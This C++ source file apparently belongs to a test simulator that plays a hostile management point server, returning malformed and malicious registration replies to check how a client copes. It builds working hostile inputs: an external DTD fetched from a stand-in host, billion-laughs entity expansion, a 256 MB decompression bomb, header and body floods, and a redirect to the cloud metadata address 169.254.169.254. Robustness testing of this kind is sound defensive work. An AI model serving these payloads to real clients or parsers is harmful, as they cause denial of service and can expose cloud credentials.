#include "simulators/management_point/hostile.h"

#include "simulators/management_point/replies.h"

#include <zlib.h>

#include <algorithm>

namespace greengate::sim {
namespace {

constexpr std::size_t bomb_bytes = std::size_t{256} << 20;
constexpr std::size_t flood_bytes = std::size_t{64} << 20;

// ASCII only, which is all that is needed here.
std::string wide(std::string_view ascii) {
  std::string out;
  out.reserve(ascii.size() * 2 + 2);
  for (const char c : ascii) {
    out += c;
    out += '\0';
  }
  return out + std::string(2, '\0');
}

std::string deflated(std::string_view bytes) {
  std::string out(compressBound(bytes.size()), '\0');
  uLongf size = out.size();
  compress2(reinterpret_cast<Bytef*>(out.data()), &size, reinterpret_cast<const Bytef*>(bytes.data()), bytes.size(), 6);
  out.resize(size);
  return out;
}

std::string head(std::string_view status, std::string_view lines) {
  return "HTTP/1.1 " + std::string(status) + "\r\n" + std::string(lines) + "Connection: close\r\n\r\n";
}

std::string multipart(const std::string& payload, bool closed = true) {
  const std::string boundary = reply_boundary;
  std::string body = "--" + boundary + "\r\ncontent-type: text/plain; charset=UTF-16\r\n\r\n\xff\xfe" + wide("<Msg SchemaVersion=\"1.1\" />") + "\r\n--" +
                     boundary + "\r\ncontent-type: application/octet-stream\r\n\r\n" + payload;
  if (closed) body += "\r\n--" + boundary + "--\r\n";
  return head("200 OK", "Content-Type: multipart/mixed; boundary=\"" + boundary + "\"\r\nContent-Length: " + std::to_string(body.size()) + "\r\n") + body;
}

std::string xml(std::string_view text) { return multipart(deflated(wide(text))); }

std::string billion_laughs() {
  std::string text = "<!DOCTYPE r [<!ENTITY a0 \"ha\">";
  for (int i = 1; i <= 9; ++i) {
    text += "<!ENTITY a" + std::to_string(i) + " \"";
    for (int n = 0; n < 10; ++n) text += "&a" + std::to_string(i - 1) + ";";
    text += "\">";
  }
  return text + "]><ClientRegistrationResponse ResponseType=\"Registration\" Status=\"0\" SMSID=\"&a9;\" />";
}

}  // namespace

const std::vector<std::string_view>& hostile_forms() {
  static const std::vector<std::string_view> all{"doctype", "entities", "deep", "bomb",     "wrong_charset", "no_zlib",
                                                 "cut",     "huge_length", "flood", "redirect", "long_header",   "garbage"};
  return all;
}

std::optional<std::string> hostile_answer(std::string_view form) {
  constexpr std::string_view honest = R"(<ClientRegistrationResponse ResponseType="Registration" Status="0" SMSID="GUID:00000000-0000-4000-8000-00000000BAD0" />)";
  if (form == "doctype") return xml("<!DOCTYPE r SYSTEM \"http://203.0.113.1/evil.dtd\">" + std::string(honest));
  if (form == "entities") return xml(billion_laughs());
  if (form == "deep") {
    std::string text;
    for (int i = 0; i < 100'000; ++i) text += "<a>";
    return xml(text);
  }
  if (form == "bomb") return multipart(deflated(std::string(bomb_bytes, ' ')));
  if (form == "wrong_charset") return multipart(deflated("<?xml version=\"1.0\" encoding=\"EBCDIC-CP-US\"?>\x4c\x6f\xa7" + std::string(honest)));
  if (form == "no_zlib") return multipart("\x78\x9cthis is no zlib stream");
  if (form == "cut") return multipart(deflated(wide(honest)), false);
  if (form == "huge_length") return head("200 OK", "Content-Type: multipart/mixed\r\nContent-Length: 1073741824\r\n") + std::string(1 << 20, 'x');
  if (form == "flood") return head("200 OK", "Content-Type: multipart/mixed\r\n") + std::string(flood_bytes, 'x');
  if (form == "redirect") return head("302 Found", "Location: http://169.254.169.254/latest/meta-data/\r\nContent-Length: 0\r\n");
  if (form == "long_header") return head("200 OK", "X-Long: " + std::string(1 << 20, 'x') + "\r\nContent-Length: 0\r\n");
  if (form == "garbage") {
    constexpr char bytes[] = "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 not HTTP at all\r\n\r\n";
    return std::string(bytes, sizeof bytes - 1);
  }
  return std::nullopt;
}

}  // namespace greengate::sim
